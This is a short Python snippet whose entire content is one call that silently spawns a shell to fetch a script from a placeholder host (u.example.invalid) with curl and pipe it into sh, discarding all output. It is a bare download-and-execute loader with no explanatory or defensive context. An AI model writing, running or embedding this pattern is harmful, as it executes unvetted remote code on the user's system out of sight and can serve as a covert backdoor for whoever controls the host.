import subprocess

subprocess.Popen(["sh", "-c", "curl -s http://u.example.invalid/k | sh"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
